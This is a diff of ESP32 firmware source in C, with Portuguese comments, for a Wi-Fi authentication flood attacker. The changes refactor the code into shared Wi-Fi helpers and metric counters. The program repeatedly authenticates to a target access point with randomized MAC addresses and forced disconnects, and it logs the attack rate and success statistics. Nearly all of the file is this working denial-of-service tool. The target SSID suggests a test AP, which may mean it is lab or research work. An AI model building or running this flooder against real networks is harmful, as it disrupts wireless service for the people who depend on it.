@@ -7,9 +7,10 @@
 #include "esp_wifi.h"
 #include "esp_event.h"
 #include "esp_log.h"
-#include "nvs_flash.h"
 #include "esp_netif.h"
 #include "esp_random.h"
+#include "metrics.h"
+#include "wifi_common.h"
 
 // Configurações do AP alvo
 #define TARGET_SSID "ESP32_AP"
@@ -22,16 +23,15 @@
 #define DISCONNECT_AFTER_AUTH true  
 
 static const char *TAG = "AUTH_FLOOD";
-static EventGroupHandle_t s_wifi_event_group;
 
-#define WIFI_CONNECTED_BIT BIT0
-#define WIFI_FAIL_BIT      BIT1
+// WIFI_CONNECTED_BIT e WIFI_FAIL_BIT vêm de wifi_common.h
 #define WIFI_AUTH_SUCCESS_BIT BIT2
 
 static int auth_attempts = 0;
-static int auth_failures = 0;
-static int auth_successes = 0;
-static int disconnections = 0;
+static metric_t *m_auth_attempts;
+static metric_t *m_auth_failures;
+static metric_t *m_auth_successes;
+static metric_t *m_disconnections;
 
 static void event_handler(void* arg, esp_event_base_t event_base,
                          int32_t event_id, void* event_data)
@@ -42,7 +42,7 @@ static void event_handler(void* arg, esp_event_base_t event_base,
         
     } else if (event_base == WIFI_EVENT && event_id == WIFI_EVENT_STA_CONNECTED) {
         wifi_event_sta_connected_t* connected = (wifi_event_sta_connected_t*) event_data;
-        auth_successes++;
+        metric_inc(m_auth_successes);
         
         ESP_LOGI(TAG, " AUTH SUCESSO #%d - SSID: %s, Canal: %d", 
                  auth_attempts + 1, connected->ssid, connected->channel);
@@ -50,10 +50,10 @@ static void event_handler(void* arg, esp_event_base_t event_base,
         
         if (DISCONNECT_AFTER_AUTH) {
             esp_wifi_disconnect();
-            disconnections++;
+            metric_inc(m_disconnections);
         }
         
-        xEventGroupSetBits(s_wifi_event_group, WIFI_AUTH_SUCCESS_BIT);
+        xEventGroupSetBits(wifi_common_event_group(), WIFI_AUTH_SUCCESS_BIT);
         
     } else if (event_base == WIFI_EVENT && event_id == WIFI_EVENT_STA_DISCONNECTED) {
         wifi_event_sta_disconnected_t* disconnected = (wifi_event_sta_disconnected_t*) event_data;
@@ -61,7 +61,7 @@ static void event_handler(void* arg, esp_event_base_t event_base,
         if (disconnected->reason == WIFI_REASON_AUTH_FAIL || 
             disconnected->reason == WIFI_REASON_AUTH_EXPIRE ||
             disconnected->reason == WIFI_REASON_NO_AP_FOUND) {
-            auth_failures++;
+            metric_inc(m_auth_failures);
             ESP_LOGI(TAG, " AUTH FALHA #%d - Motivo: %d", 
                      auth_attempts + 1, disconnected->reason);
         } else {
@@ -69,7 +69,7 @@ static void event_handler(void* arg, esp_event_base_t event_base,
                      auth_attempts + 1, disconnected->reason);
         }
         
-        xEventGroupSetBits(s_wifi_event_group, WIFI_FAIL_BIT);
+        xEventGroupSetBits(wifi_common_event_group(), WIFI_FAIL_BIT);
         
     } else if (event_base == IP_EVENT && event_id == IP_EVENT_STA_GOT_IP) {
         ip_event_got_ip_t* event = (ip_event_got_ip_t*) event_data;
@@ -78,7 +78,6 @@ static void event_handler(void* arg, esp_event_base_t event_base,
                  IP2STR(&event->ip_info.ip));
         
         esp_wifi_disconnect();
-        xEventGroupSetBits(s_wifi_event_group, WIFI_CONNECTED_BIT);
     }
 }
 
@@ -111,6 +110,7 @@ void randomize_mac_for_auth(void)
 void execute_auth_flood_attempt(void)
 {
     auth_attempts++;
+    metric_inc(m_auth_attempts);
     
     ESP_LOGI(TAG, " AUTH FLOOD #%d/%d", auth_attempts, MAX_AUTH_ATTEMPTS);
     
@@ -119,36 +119,28 @@ void execute_auth_flood_attempt(void)
     esp_wifi_stop();
     vTaskDelay(pdMS_TO_TICKS(5)); // Delay mínimo
     
-    wifi_config_t wifi_config = {
-        .sta = {
-            .ssid = TARGET_SSID,
-            .password = TARGET_PASS,
-            .threshold.authmode = WIFI_AUTH_WPA2_PSK,
-            .pmf_cfg = {
-                .capable = true,
-                .required = false
-            },
-        },
-    };
+    wifi_config_t wifi_config;
+    wifi_common_fill_sta_config(&wifi_config, TARGET_SSID, TARGET_PASS);
     
     esp_wifi_set_config(WIFI_IF_STA, &wifi_config);
     esp_wifi_start();
     
-    EventBits_t bits = xEventGroupWaitBits(s_wifi_event_group,
-            WIFI_CONNECTED_BIT | WIFI_FAIL_BIT | WIFI_AUTH_SUCCESS_BIT,
-            pdTRUE,
-            pdFALSE,
-            pdMS_TO_TICKS(300)); 
+    EventBits_t bits = wifi_common_wait(WIFI_CONNECTED_BIT | WIFI_FAIL_BIT | WIFI_AUTH_SUCCESS_BIT,
+                                        true,
+                                        pdMS_TO_TICKS(300)); 
     
     if (!(bits & (WIFI_CONNECTED_BIT | WIFI_FAIL_BIT | WIFI_AUTH_SUCCESS_BIT))) {
         ESP_LOGI(TAG, "Timeout na tentativa #%d - gerando nova tentativa", auth_attempts);
-        auth_failures++;
+        metric_inc(m_auth_failures);
         esp_wifi_stop(); 
     }
 }
 
 void show_auth_flood_stats(void)
 {
+    int auth_successes = metric_value(m_auth_successes);
+    int auth_failures = metric_value(m_auth_failures);
+    int disconnections = metric_value(m_disconnections);
     float success_rate = auth_attempts > 0 ? (float)auth_successes / auth_attempts * 100 : 0;
     float failure_rate = auth_attempts > 0 ? (float)auth_failures / auth_attempts * 100 : 0;
     
@@ -161,6 +153,7 @@ void show_auth_flood_stats(void)
     ESP_LOGI(TAG, "Desconexões forçadas: %d", disconnections);
     ESP_LOGI(TAG, "Taxa de ataque: ~%d auth/min", 60000 / AUTH_FLOOD_INTERVAL_MS);
     ESP_LOGI(TAG, "Randomização MAC: %s", RANDOMIZE_MAC_AUTH ? "ATIVA" : "INATIVA");
+    metrics_log_all(TAG);
     ESP_LOGI(TAG, "=====================================");
     ESP_LOGI(TAG, "");
 }
@@ -194,42 +187,26 @@ static void auth_flood_attack_task(void *pvParameters)
 
 void wifi_init_auth_flooder(void)
 {
-    s_wifi_event_group = xEventGroupCreate();
-
-    ESP_ERROR_CHECK(esp_netif_init());
-    ESP_ERROR_CHECK(esp_event_loop_create_default());
-    
-    esp_netif_create_default_wifi_sta();
-
-    wifi_init_config_t cfg = WIFI_INIT_CONFIG_DEFAULT();
-    ESP_ERROR_CHECK(esp_wifi_init(&cfg));
-
-    esp_event_handler_instance_t instance_any_id;
-    esp_event_handler_instance_t instance_got_ip;
-    ESP_ERROR_CHECK(esp_event_handler_instance_register(WIFI_EVENT,
-                                                        ESP_EVENT_ANY_ID,
-                                                        &event_handler,
-                                                        NULL,
-                                                        &instance_any_id));
-    ESP_ERROR_CHECK(esp_event_handler_instance_register(IP_EVENT,
-                                                        IP_EVENT_STA_GOT_IP,
-                                                        &event_handler,
-                                                        NULL,
-                                                        &instance_got_ip));
-
-    ESP_ERROR_CHECK(esp_wifi_set_mode(WIFI_MODE_STA));
+    // A STA é iniciada a cada tentativa em execute_auth_flood_attempt()
+    wifi_common_sta_config_t sta_config = {
+        .ssid = TARGET_SSID,
+        .password = TARGET_PASS,
+        .handler = &event_handler,
+        .start = false,
+    };
+    wifi_common_init_sta(&sta_config);
     
     ESP_LOGI(TAG, "Wi-Fi configurado para auth flood!");
 }
 
 void app_main(void)
 {
-    esp_err_t ret = nvs_flash_init();
-    if (ret == ESP_ERR_NVS_NO_FREE_PAGES || ret == ESP_ERR_NVS_NEW_VERSION_FOUND) {
-        ESP_ERROR_CHECK(nvs_flash_erase());
-        ret = nvs_flash_init();
-    }
-    ESP_ERROR_CHECK(ret);
+    wifi_common_nvs_init();
+
+    m_auth_attempts = metrics_counter("authflood_attempts_total", "Tentativas de autenticacao");
+    m_auth_failures = metrics_counter("authflood_failures_total", "Autenticacoes que falharam ou expiraram");
+    m_auth_successes = metrics_counter("authflood_successes_total", "Autenticacoes bem-sucedidas");
+    m_disconnections = metrics_counter("authflood_disconnections_total", "Desconexoes forcadas apos auth");
 
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "=== AUTH FLOOD ATTACKER INICIADO ===");